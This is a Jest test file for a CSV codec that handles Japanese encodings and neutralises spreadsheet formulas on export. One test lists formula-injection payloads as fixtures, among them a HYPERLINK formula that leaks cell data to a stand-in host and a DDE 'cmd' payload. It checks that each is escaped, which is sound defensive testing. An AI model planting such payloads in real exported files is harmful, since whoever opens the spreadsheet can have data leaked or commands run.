import { describe, expect, it } from '@jest/globals';
import iconv from 'iconv-lite';
import {
  booleanCell,
  CsvFormatError,
  csvHead,
  csvRecords,
  decodeCsv,
  integerCell,
  listCell,
  neutraliseFormula,
  parseCsv,
} from './csv-codec.js';

const SAMPLE = 'name,name_kana\n株式会社北海道フーズ,ホッカイドウフーズ\n';

describe('CSV codec', () => {
  it('reads UTF-8 with and without a BOM, and Shift_JIS', () => {
    expect(decodeCsv(Buffer.from(SAMPLE, 'utf8'))).toEqual({ text: SAMPLE, encoding: 'utf-8' });
    expect(decodeCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SAMPLE)]))).toEqual({
      text: SAMPLE,
      encoding: 'utf-8-bom',
    });
    const sjis = iconv.encode(SAMPLE, 'Shift_JIS');
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(sjis)).toThrow();
    expect(decodeCsv(sjis)).toEqual({ text: SAMPLE, encoding: 'shift_jis' });
    expect(decodeCsv(sjis, 'shift_jis').text).toBe(SAMPLE);
  });

  it('reads the Windows-31J characters Excel writes (①, ㈱, NEC specials)', () => {
    const text = '①㈱髙橋\n';
    expect(decodeCsv(iconv.encode(text, 'cp932')).text).toBe(text);
  });

  it('refuses UTF-16 and a declared UTF-8 that is not', () => {
    expect(() => decodeCsv(Buffer.from([0xff, 0xfe, 0x41, 0x00]))).toThrow(CsvFormatError);
    expect(() => decodeCsv(iconv.encode(SAMPLE, 'Shift_JIS'), 'utf-8')).toThrow(/not valid UTF-8/);
  });

  it('numbers rows by the line they start on, across quoted line breaks and empty lines', () => {
    const { header, rows } = parseCsv(' Name ,Note\r\na,"two\r\nlines"\r\n\r\nb,x\r\nc\r\n');
    expect(header).toEqual(['name', 'note']);
    expect(rows.map((r) => [r.line, r.values['name'], r.fieldCountMismatch])).toEqual([
      [2, 'a', false],
      [5, 'b', false],
      [6, 'c', true],
    ]);
    expect(rows[0]!.values['note']).toBe('two\nlines');
  });

  it('reports a broken file with the line, and an empty one', () => {
    expect(() => parseCsv('a,b\n"1,2\n')).toThrow(/not readable CSV/);
    expect(() => parseCsv('')).toThrow(/empty/);
  });

  it('writes UTF-8 with a BOM and CRLF, lists joined, formulas neutralised', () => {
    const csv =
      csvHead(['name', 'fields', 'note', 'n']) +
      csvRecords([['北海道', ['food', 'tourism'], '=HYPERLINK("x")', -5]]) +
      csvRecords([]) +
      csvRecords([['札幌', [], null, 0]]);
    expect(csv).toBe('\uFEFFname,fields,note,n\r\n北海道,food;tourism,"\'=HYPERLINK(""x"")",-5\r\n札幌,,,0\r\n');
  });

  it('the CSV export neutralises every formula-looking cell, -1+HYPERLINK included; only plain numbers pass', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
      '-1+HYPERLINK("https://evil.example","x")',
      '-1+1',
      '+1+1',
      '+81-11-222-3333',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-',
      '-x',
      '-1e3',
      '\t=1+1',
      '\tplain',
      '\r=1+1',
      ' =1+1',
      '  @SUM(A1)',
      '\u3000=1+1',
      '\n-1+HYPERLINK("x")',
      '＝１＋１',
      '＋1',
      '－1+1',
      '＠SUM(A1)',
    ];
    for (const text of hostile) expect([text, neutraliseFormula(text)]).toEqual([text, `'${text}`]);
    for (const text of ['-12', '3.5', '-0.25', '0', '42', '株式会社北海道フーズ', 'a=b', 'x-1', '2024-04-01', '', 'ヤマダ タロウ'])
      expect([text, neutraliseFormula(text)]).toEqual([text, text]);
    const csv = csvRecords([['-1+HYPERLINK("x")', -12, 3.5, ['=1', 'food'], ' =2']]);
    expect(csv).toBe('"\'-1+HYPERLINK(""x"")",-12,3.5,\'=1;food,\' =2\r\n');
  });

  it('reads list, integer and yes/no cells', () => {
    expect(listCell('food; tourism、it')).toEqual(['food', 'tourism', 'it']);
    expect(integerCell('10,000,000')).toBe(10_000_000);
    expect(integerCell('１２')).toBe(12);
    expect(integerCell('')).toBeUndefined();
    expect(integerCell('1.5')).toBeNaN();
    expect([booleanCell('はい'), booleanCell('FALSE'), booleanCell(''), booleanCell('maybe')]).toEqual([true, false, false, undefined]);
  });
});
